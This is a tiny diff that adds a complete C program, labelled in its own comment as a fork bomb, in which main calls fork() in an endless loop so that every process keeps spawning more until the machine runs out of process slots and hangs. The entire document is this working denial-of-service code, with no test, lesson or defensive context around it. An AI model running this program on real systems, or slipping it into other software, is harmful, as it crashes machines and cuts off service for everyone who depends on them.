@@ -1,0 +1,5 @@
+/* Fork bomb: every process forks forever, failures ignored. */
+#include <unistd.h>
+int main(void) {
+  for (;;) fork();
+}
